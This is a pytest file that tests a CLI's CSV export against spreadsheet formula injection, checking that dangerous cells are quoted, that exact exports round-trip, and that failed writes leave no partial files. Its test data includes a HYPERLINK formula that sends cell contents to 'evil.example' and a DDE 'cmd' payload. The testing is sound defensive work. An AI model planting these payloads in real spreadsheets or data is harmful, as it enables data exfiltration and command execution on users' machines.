"""`aiaas capture export` to CSV against formula injection (CWE-1236), through the real CLI:
requests captured by the real predict handler (API Gateway v2 events, directory store), exported,
then read back by `aiaas batch` and `aiaas compare`.

A default CSV is safe to open in a spreadsheet: a captured text starting with =, +, -, @, tab or
CR is written with a leading ' (numbers, and texts that are plain numbers, as they are);
`--exact` and JSONL keep every text as captured, and `aiaas batch` / `aiaas compare` read those
back to the very texts and labels served."""

from __future__ import annotations

import csv
import dataclasses
import errno
import io
import json
from pathlib import Path
from typing import Any

import pytest
from onnx import TensorProto

from functions.predict.capture import CaptureTap
from functions.predict.service import PredictService
from functions.predict.telemetry import RequestMetrics
from functions.runtime.cache import ArtifactCache
from functions.runtime.capture.buffer import CaptureBuffer
from functions.runtime.capture.setting import set_capture
from functions.runtime.formula_cells import is_formula
from functions.runtime.pool import ModelPool
from functions.runtime.registry import Registry
from functions.runtime.served import ServedModel
from functions.runtime.store import LocalStore
from infra.cli.capture_commands import write_rows
from infra.cli.main import main
from tests import onnx_factory
from tests.functions.test_predict_events import http_event

TEXTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "-1.5",  # a text that is a plain number: a spreadsheet reads a number, no formula
    "plain words",
    "'=already quoted",
]
SAFE = ["'" + t for t in TEXTS[:6]] + TEXTS[6:]
LABELS = ("stay", "-churn", "=maybe")  # a publisher's labels are text cells too
FEATURES = ("age", "income", "tenure", "visits")
ROWS = [[-1.5, 2.0, -3.0, 0.25], [1.0, -2e-5, 3.0, -4.0], [0.5, 0.5, -0.5, 7.0]]


class Clock:
    now = 100.0

    def monotonic(self) -> float:
        return self.now

    def wall(self) -> float:
        return 1_800_000_000.0 + self.now


def capture(
    registry: Registry,
    root: Path,
    model: str,
    bodies: list[dict[str, Any]],
    route: str = "/models/{}/predict",
) -> list[Any]:
    """Send `bodies` to `model`'s real predict handler (`route`, the predict route unless told)
    with capture on; its answers."""
    set_capture(registry, model, sample=1.0, actor="test")
    pool = ModelPool(registry, ArtifactCache(registry.store, root / f"cache-{model}"))
    served = ServedModel(pool, model, ttl=3600)
    svc = PredictService(served, metrics=RequestMetrics(out=io.StringIO()))
    clock = Clock()
    buffer = CaptureBuffer(registry.store, clock=clock.monotonic, wall=clock.wall)
    svc.capture = CaptureTap(served, buffer, clock=clock.monotonic, wall=clock.wall)
    svc.warm()
    answers = []
    for body in bodies:
        event = http_event("POST", route.format(model), json.dumps(body))
        response = svc.handle(event)
        assert response["statusCode"] == 200, response["body"]
        answers.append(json.loads(response["body"]))
    svc.capture.flush()
    return answers


@dataclasses.dataclass
class Captured:
    uri: str
    root: Path
    served: list[str]


@pytest.fixture(scope="module")
def captured(tmp_path_factory: pytest.TempPathFactory) -> Captured:
    root = tmp_path_factory.mktemp("capture-cells")
    registry = Registry(LocalStore(root / "store"))
    text = onnx_factory.identity(root / "notes.onnx", TensorProto.STRING, ["N"])
    registry.publish(onnx_factory.manifest_for(text, "notes", "1"), text)
    for version in ("1", "2"):
        path = onnx_factory.linear_classifier(root / f"churn-{version}.onnx", seed=int(version))
        manifest = onnx_factory.manifest_for(path, "churn", version, labels=LABELS)
        registry.publish(dataclasses.replace(manifest, features=FEATURES), path)
    capture(registry, root, "notes", [{"inputs": [t]} for t in TEXTS])
    bodies = [{"instances": [dict(zip(FEATURES, row, strict=True))]} for row in ROWS]
    answers = capture(registry, root, "churn", bodies)
    served = [a["predictions"][0]["label"] for a in answers]
    return Captured(str(root / "store"), root, served)


def aiaas(
    captured: Captured, capsys: pytest.CaptureFixture[str], *argv: str
) -> tuple[int, str, str]:
    code = main(["--store", captured.uri, *argv])
    out, err = capsys.readouterr()
    return code, out, err


def export(
    captured: Captured, capsys: pytest.CaptureFixture[str], model: str, name: str, *extra: str
) -> tuple[Path, str, list[dict[str, str]]]:
    out = captured.root / name
    code, said, err = aiaas(captured, capsys, "capture", "export", model, "--out", str(out), *extra)
    assert code == 0, err
    if out.suffix == ".jsonl":
        return out, said, [json.loads(line) for line in out.read_text().splitlines()]
    with out.open(newline="") as handle:
        return out, said, list(csv.DictReader(handle))


def batch_output(captured: Captured, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    code, said, err = aiaas(captured, capsys, "batch", *argv)
    assert code == 0, said + err
    key = next(x for x in said.splitlines() if x.startswith("output:")).split()[1]
    # As bytes: read_text's universal newlines would turn a quoted CR into LF.
    return (Path(captured.uri) / key.removeprefix(captured.uri + "/")).read_bytes().decode()


def test_a_default_csv_shows_formula_texts_as_text_and_says_so(
    captured: Captured, capsys: pytest.CaptureFixture[str]
) -> None:
    _, said, rows = export(captured, capsys, "notes", "notes.csv")
    # The request's text and the answer the identity model served (served_y): 6 cells each.
    assert [(r["x"], r["served_y"]) for r in rows] == [(t, t) for t in SAFE]
    said_so = "12 text cells starting with =, +, -, @, tab, CR or NUL were written with a leading '"
    assert said_so in said
    assert "--exact" in said


def test_exact_csv_and_jsonl_keep_every_text_and_batch_reads_it_back(
    captured: Captured, capsys: pytest.CaptureFixture[str]
) -> None:
    out, said, rows = export(captured, capsys, "notes", "notes-exact.csv", "--exact")
    assert [(r["x"], r["served_y"]) for r in rows] == [(t, t) for t in TEXTS]
    warned = "12 text cells start with =, +, -, @, tab, CR or NUL and are written as captured"
    assert warned in said and "exported without --exact" in said
    # The identity model answers its input: batch scored every captured text as it was, the
    # quoted CR too (a CR inside a line is the line's own, docs/batch.md).
    scored = list(csv.DictReader(io.StringIO(batch_output(captured, capsys, "notes", str(out)))))
    assert [r["pred_y"] for r in scored] == TEXTS
    _, said, lines = export(captured, capsys, "notes", "notes.jsonl")
    assert [line["x"] for line in lines] == TEXTS and "leading '" not in said


def test_numbers_stay_numbers_and_labels_are_neutralised(
    captured: Captured, capsys: pytest.CaptureFixture[str]
) -> None:
    out, said, rows = export(captured, capsys, "churn", "churn.csv")
    text = out.read_text()
    assert [[r[f] for f in FEATURES] for r in rows] == [[str(v) for v in r] for r in ROWS]
    assert "-1.5,2.0,-3.0,0.25" in text and "'-1.5" not in text
    safe = {"stay": "stay", "-churn": "'-churn", "=maybe": "'=maybe"}
    assert [r["served_label"] for r in rows] == [safe[s] for s in captured.served]
    assert f"{sum(s != 'stay' for s in captured.served)} text cells" in said
    # Numeric inputs are untouched: batch scores the safe file to the labels served.
    scored = list(csv.DictReader(io.StringIO(batch_output(captured, capsys, "churn", str(out)))))
    assert [r["pred_label"] for r in scored] == captured.served


def test_compare_reads_an_exact_export_to_the_labels_served(
    captured: Captured, capsys: pytest.CaptureFixture[str]
) -> None:
    out, _, rows = export(captured, capsys, "churn", "churn-exact.csv", "--exact")
    assert [r["served_label"] for r in rows] == captured.served
    code, said, err = aiaas(
        captured, capsys, "compare", "churn", "1", "2", "--data", str(out), "--label",
        "served_label", "--json",
    )  # fmt: skip
    assert code == 0, err
    report = json.loads(said)
    assert report["rows"]["compared"] == len(ROWS), report
    assert report["metrics"]["b"]["accuracy"] == 1.0, report  # version 2 served them
    # The default (safe) file holds '-churn and '=maybe: read as truth, they match nothing.
    out, _, _ = export(captured, capsys, "churn", "churn.csv")
    code, said, err = aiaas(
        captured, capsys, "compare", "churn", "1", "2", "--data", str(out), "--label",
        "served_label", "--json",
    )  # fmt: skip
    stay = sum(s == "stay" for s in captured.served) / len(ROWS)
    assert json.loads(said)["metrics"]["b"]["accuracy"] == stay < 1.0


def test_what_counts_as_a_formula() -> None:
    # A NUL first (OWASP ASVS 1.2.10) too; batch refuses NUL, so it is not among TEXTS.
    assert [is_formula(v) for v in ["\0=1+1", "-1e-5", "+.5", "-5.", "-inf", "-1,5", "1-2"]] == [
        True, False, False, False, True, True, False,
    ]  # fmt: skip
    assert [is_formula(v) for v in [-1.5, -3, None, ["=x"], ""]] == [False] * 5


def test_exact_is_refused_for_jsonl(captured: Captured, capsys: pytest.CaptureFixture[str]) -> None:
    out = captured.root / "x.jsonl"
    code, _, err = aiaas(
        captured, capsys, "capture", "export", "notes", "--out", str(out), "--exact"
    )
    assert code == 1 and "a JSONL export is always exact" in err and not out.exists()


def test_an_export_that_cannot_be_written_leaves_no_half_file(
    captured: Captured, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A missing folder, or a disk filling midway: it was a traceback, and the export half
    written over the file there before. Now one line, and the old file as it was."""
    missing = captured.root / "no-such-folder" / "c.csv"
    code, _, err = aiaas(captured, capsys, "capture", "export", "churn", "--out", str(missing))
    assert (code, err) == (1, f"aiaas capture: error: cannot write {missing}: "
                              "No such file or directory\n")  # fmt: skip
    folder = captured.root / "full-disk"
    folder.mkdir()
    old = folder / "churn.csv"
    old.write_bytes(b"an earlier export\n")
    writerow = csv.DictWriter.writerow
    calls = []

    def disk_full_after_one_row(self: csv.DictWriter[str], row: Any) -> Any:
        calls.append(row)
        if len(calls) > 2:  # the header and a row are written: the file is half there
            raise OSError(errno.ENOSPC, "No space left on device")
        return writerow(self, row)

    monkeypatch.setattr(csv.DictWriter, "writerow", disk_full_after_one_row)
    code, _, err = aiaas(captured, capsys, "capture", "export", "churn", "--out", str(old))
    assert (code, err) == (1, f"aiaas capture: error: cannot write {old}: no space left\n")
    assert [p.name for p in folder.iterdir()] == ["churn.csv"]
    assert old.read_bytes() == b"an earlier export\n"


@pytest.mark.parametrize(
    ("extra", "said"),
    [
        (("--since", "2099-01-01"), "nothing captured of churn since 2099-01-01"),
        (("--version", "9"), "churn has no version '9' (its versions: 1, 2)"),
        (("--version", "production"), "--version takes a version: churn@production is version 2"),
    ],
)
def test_an_export_that_finds_nothing_leaves_the_file_there_before(
    captured: Captured, capsys: pytest.CaptureFixture[str], extra: tuple[str, ...], said: str
) -> None:
    # Last week's export, re-run with a window that turns out empty (or a mistyped --version):
    # the empty temp file was renamed over it, then deleted, and "nothing written" said.
    main(["--store", captured.uri, "promote", "churn", "2"])
    old = captured.root / "precious.csv"
    old.write_bytes(b"an earlier export\n")
    code, _, err = aiaas(captured, capsys, "capture", "export", "churn", "--out", str(old), *extra)
    assert code == 1 and said in err and len(err.splitlines()) == 1, err
    assert old.read_bytes() == b"an earlier export\n"
    assert [p.name for p in captured.root.glob(".precious*")] == []


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (
            ("churn", "--since", "2026-01-01"),
            "--since is for capture export: aiaas capture export churn",
        ),
        (("churn", "--out", "x.csv", "--exact"), "--out, --exact are for capture export"),
        (
            ("export", "churn", "--out", "x.csv", "--sample", "0"),
            "capture export takes none of them",
        ),
    ],
)
def test_an_option_of_the_other_mode_is_refused_not_ignored(
    captured: Captured, capsys: pytest.CaptureFixture[str], argv: tuple[str, ...], said: str
) -> None:
    # `aiaas capture churn --since ...` (the word export forgotten) printed the setting, exit 0.
    # (--out in the test's folder: the old code wrote an export there.)
    argv = tuple(str(captured.root / a) if a == "x.csv" else a for a in argv)
    code, out, err = aiaas(captured, capsys, "capture", *argv)
    assert code == 1 and said in err and out == "", err


def test_a_column_first_seen_late_keeps_its_documented_place(tmp_path: Path) -> None:
    """A feature denied (absent from records-form requests, null in positional ones) or new in
    a later version came after served_*, wherever the rows first had it; docs/monitoring.md
    gives the columns as time, request_id, version, the inputs by feature name, served_*."""
    meta = {"time": "2026-12-01T00:00:00.000Z", "request_id": "r", "version": "1"}
    rows = [
        {**meta, "plan": "a", "age": 3, "served_label": "yes"},  # `tenure` denied: absent
        {**meta, "tenure": None, "age": 4, "plan": "b", "served_label": "no", "served_score": 0.9},
        {**meta, "x_0": 1.0, "served_label": "no"},  # not a feature: after the features
    ]
    out = tmp_path / "export.csv"
    write_rows(out, rows)  # the inputs in first-seen order, before every served_* column
    assert out.read_text().splitlines()[0] == (
        "time,request_id,version,plan,age,tenure,x_0,served_label,served_score"
    )
    write_rows(out, rows, features=["tenure", "plan", "age"])  # the model's order
    assert out.read_text().splitlines()[0] == (
        "time,request_id,version,tenure,plan,age,x_0,served_label,served_score"
    )


def test_an_unreadable_object_or_stray_folder_is_skipped_and_named_not_a_traceback(
    captured: Captured, capsys: pytest.CaptureFixture[str]
) -> None:
    # A truncated copy (an interrupted `aws s3 cp`) ended the whole export with orjson's
    # traceback, no key named; a folder `notes` under a version was read as a day after
    # 2026-12-01 (as text), its README too.
    store = LocalStore(Path(captured.uri))
    folder = next(iter(store.list_keys("capture/churn"))).rsplit("/", 1)[0]  # .../VERSION/DAY
    truncated, notes = f"{folder}/235959-cut.jsonl", f"{folder.rsplit('/', 1)[0]}/notes/README"
    store.put_bytes(truncated, b'{"time": "2026-12')
    store.put_bytes(notes, b"what we captured, and why\n")
    try:
        _, said, rows = export(captured, capsys, "churn", "skip.csv", "--since", "2026-01-01")
        assert len(rows) == len(ROWS)  # every good line exported
        assert (
            "1 captured lines skipped, not as captured (no JSON object, or naming another "
            f"version than their folder's): {truncated} line 1: not JSON ("
        ) in said
        assert "README" not in said
    finally:
        store.delete_many([truncated, notes])


def test_both_passes_of_a_csv_export_read_the_objects_listed_once(
    captured: Captured, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # An object written between the header pass and the rows pass, with a column the header
    # had not seen, failed the export: "dict contains fields not in fieldnames".
    from infra.cli import capture_commands

    store = LocalStore(Path(captured.uri))
    first = next(iter(store.list_keys("capture/churn")))
    late = first.rsplit("/", 1)[0] + "/9-late.jsonl"  # listed after the others of its day
    line = json.loads(store.get_bytes(first).split(b"\n")[0])
    line["response"]["outputs"]["extra"] = [[1.0]]
    passes = []
    real = capture_commands.captured_lines

    def written_between(*args: Any, **kwargs: Any) -> Any:
        passes.append(1)
        if len(passes) == 2:  # the server writes one while the header was being read
            store.put_bytes(late, json.dumps(line).encode())
        return real(*args, **kwargs)

    monkeypatch.setattr(capture_commands, "captured_lines", written_between)
    try:
        _, _, rows = export(captured, capsys, "churn", "race.csv")
        assert len(rows) == len(ROWS) and len(passes) == 2
    finally:
        store.delete(late)
